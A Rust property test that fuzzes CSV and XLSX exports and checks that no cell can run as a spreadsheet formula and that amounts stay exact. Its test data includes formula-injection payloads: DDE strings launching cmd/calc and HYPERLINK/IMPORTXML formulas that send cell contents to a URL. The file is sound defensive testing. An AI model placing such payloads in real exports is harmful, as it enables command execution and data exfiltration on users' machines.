//! Ten thousand files of hostile words and of amounts: no spreadsheet runs anything in them, and no amount changes.

use std::sync::Arc;

use arrow_array::{ArrayRef, Decimal128Array, RecordBatch, StringArray};
use arrow_schema::{DataType, Field, Schema};
use domain::canonical::write_decimal;
use domain::{ExportFormat, RecordQuery, RecordSort};
use proptest::prelude::*;
use tables::{ExportNotes, Objects, Tables, Which};

use crate::sample::{KEY, waiting};
use crate::workbook::{Cell, sheets};

/// Each case makes four files, and two tests share the cases: each takes a core for long.
const CASES: u32 = 1_250;

/// Words of two columns, and an amount.
#[derive(Clone, Debug)]
struct Line {
    words: [String; 2],
    cents: i128,
}

/// Whether some spreadsheet runs a cell: what it passes over first does not protect.
fn is_run(cell: &str) -> bool {
    let shown = cell.trim_start_matches(|letter: char| {
        matches!(letter, ' ' | '"' | '\u{a0}' | '\u{3000}' | '\u{200b}' | '\u{feff}' | '\0')
    });
    let begins = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫'];
    shown.starts_with(begins) && !is_number(cell)
}

fn is_number(cell: &str) -> bool {
    cell.trim().parse::<f64>().is_ok()
}

fn hostile() -> impl Strategy<Value = String> {
    let before = prop::sample::select(vec![
        "", "", "x", " ", "  \"", "\"", "'", "\u{a0}", "\u{3000}", "\u{feff}", "\0", "a;", "a|", "a\n", "a\t ", "a,",
    ]);
    let mark = prop::sample::select(vec![
        "=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n+", "＝", "＋", "－", "＠", "﹣", "﹦", "",
    ]);
    let after = prop_oneof![
        prop::sample::select(vec![
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://127.0.0.1/?\"&A1,\"pay\")",
            "SUM(A1:A9)*cmd|'/c x'!A0",
            "DDE(\"cmd\";\"/C calc\";\"a\")",
            "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
            "49 30 1234",
            "12.50",
            "12,50 ",
        ])
        .prop_map(str::to_owned),
        "[-=+@;|,\"' \t\na-z0-9]{0,12}",
    ];
    (before, mark, after).prop_map(|(before, mark, after)| [before, mark, after.as_str()].concat())
}

fn line() -> impl Strategy<Value = Line> {
    let cents = prop_oneof![-500..500_i128, -10_i128.pow(14)..10_i128.pow(14)];
    (hostile(), hostile(), cents).prop_map(|(one, other, cents)| Line { words: [one, other], cents })
}

/// A table whose second column has a hostile name.
async fn table(name: &str, lines: &[Line]) -> Tables {
    let of = |name: &str, kind: DataType| Field::new(name, kind, true);
    let fields = vec![of("words", DataType::Utf8), of(name, DataType::Utf8), of("amount", DataType::Decimal128(38, 2))];
    let words = |at: usize| -> ArrayRef {
        Arc::new(lines.iter().map(|line| Some(line.words[at].as_str())).collect::<StringArray>())
    };
    let cents: Decimal128Array = lines.iter().map(|line| Some(line.cents)).collect();
    let cents: ArrayRef = Arc::new(cents.with_data_type(DataType::Decimal128(38, 2)));
    let schema = Arc::new(Schema::new(fields));
    let batch = RecordBatch::try_new(Arc::clone(&schema), vec![words(0), words(1), cents]).unwrap();
    let objects = Objects::in_memory();
    let mut table = objects.table(KEY, &schema).await.unwrap();
    tokio::task::spawn_blocking(move || table.write(&batch).and_then(|()| table.publish())).await.unwrap().unwrap();
    Tables::new(objects, 1 << 20)
}

async fn file(tables: &Tables, is_sorted: bool, format: ExportFormat) -> Vec<u8> {
    let sort = is_sorted.then(|| RecordSort { column: "amount".to_owned(), descending: true });
    let query = RecordQuery { sort, ..RecordQuery::default() };
    let notes = ExportNotes { notes: "Notes".to_owned(), ..ExportNotes::default() };
    let mut file = Vec::new();
    tables.export(KEY, (&query, Which::All), format, &notes, &mut file).await.unwrap();
    file
}

fn shown(cents: i128) -> String {
    let mut text = String::new();
    write_decimal(cents, 2, &mut text);
    text
}

/// The cells of a file as somebody reads it who separates values by a mark.
fn cells(file: &[u8], mark: u8) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().delimiter(mark).has_headers(false).flexible(true).from_reader(file);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn check_csv(file: &[u8], name: &str, lines: &[&Line]) {
    let read = cells(file, b',');
    assert_eq!(read.len(), lines.len() + 1);
    assert!(read[0][1] == name || read[0][1] == format!("'{name}") || name.contains([';', '|', '\n', '\t', '\r']));
    for (cells, line) in read[1..].iter().zip(lines) {
        assert_eq!(cells[2], shown(line.cents));
        assert_eq!(cells[2].parse::<f64>().unwrap().is_sign_negative(), line.cents < 0);
        for (cell, words) in cells.iter().zip(&line.words) {
            assert_eq!(cell.replace('\'', ""), words.replace('\'', ""), "only marks are added");
        }
    }
    assert_eq!(read.iter().flatten().find(|cell| is_run(cell)), None);
    for mark in *b";|\t" {
        // Whoever separates otherwise finds line breaks of texts at the beginning of cells, and whole rows in one cell,
        // of which the first value may be a number.
        let is_run = |cell: &String| is_run(cell.trim_start()) && !cell.split(',').next().is_some_and(is_number);
        let run: Vec<String> = cells(file, mark).into_iter().flatten().filter(is_run).collect();
        assert!(run.is_empty(), "{:?} in {:?}", run, String::from_utf8_lossy(file));
    }
}

fn check_workbook(file: &[u8], name: &str, lines: &[&Line]) {
    let sheets = sheets(file);
    assert_eq!(sheets[0][0][1], Some(Cell::Text(name.to_owned())));
    for (cells, line) in sheets[0][1..].iter().zip(lines) {
        for (cell, words) in cells.iter().zip(&line.words) {
            let read = cell.clone().unwrap_or(Cell::Text(String::new()));
            assert_eq!(read, Cell::Text(words.clone()));
        }
        assert_eq!(cells[2], Some(Cell::Number(format!("{}", line.cents as f64 / 100.0))));
    }
    let sum: i128 = lines.iter().map(|line| line.cents).sum();
    assert_eq!(sheets[0].len(), lines.len() + 1);
    assert_eq!(sheets[1][0][1], Some(Cell::Number(lines.len().to_string())));
    assert_eq!(sheets[1][1][1], Some(Cell::Number(format!("{}", sum as f64 / 100.0))));
}

fn column() -> impl Strategy<Value = String> {
    hostile().prop_filter("a name of its own", |name| {
        !name.starts_with(['#', '~']) && !["", "words", "amount"].contains(&name.as_str())
    })
}

fn lines() -> impl Strategy<Value = Vec<Line>> {
    prop::collection::vec(line(), 1..8)
}

fn check(name: &str, lines: &[Line]) {
    waiting(async {
        let tables = table(name, lines).await;
        let as_they_are: Vec<&Line> = lines.iter().collect();
        let mut sorted = as_they_are.clone();
        sorted.sort_by_key(|line| -line.cents);
        for (is_sorted, lines) in [(false, &as_they_are), (true, &sorted)] {
            check_csv(&file(&tables, is_sorted, ExportFormat::Csv).await, name, lines);
            check_workbook(&file(&tables, is_sorted, ExportFormat::Xlsx).await, name, lines);
        }
    });
}

proptest! {
    #![proptest_config(ProptestConfig { cases: CASES, max_shrink_iters: 200, ..ProptestConfig::default() })]

    #[test]
    fn no_cell_of_five_thousand_files_is_run_and_every_amount_is_the_same(name in column(), lines in lines()) {
        check(&name, &lines);
    }

    #[test]
    fn no_cell_of_five_thousand_other_files_is_run_either(name in column(), lines in lines()) {
        check(&name, &lines);
    }
}
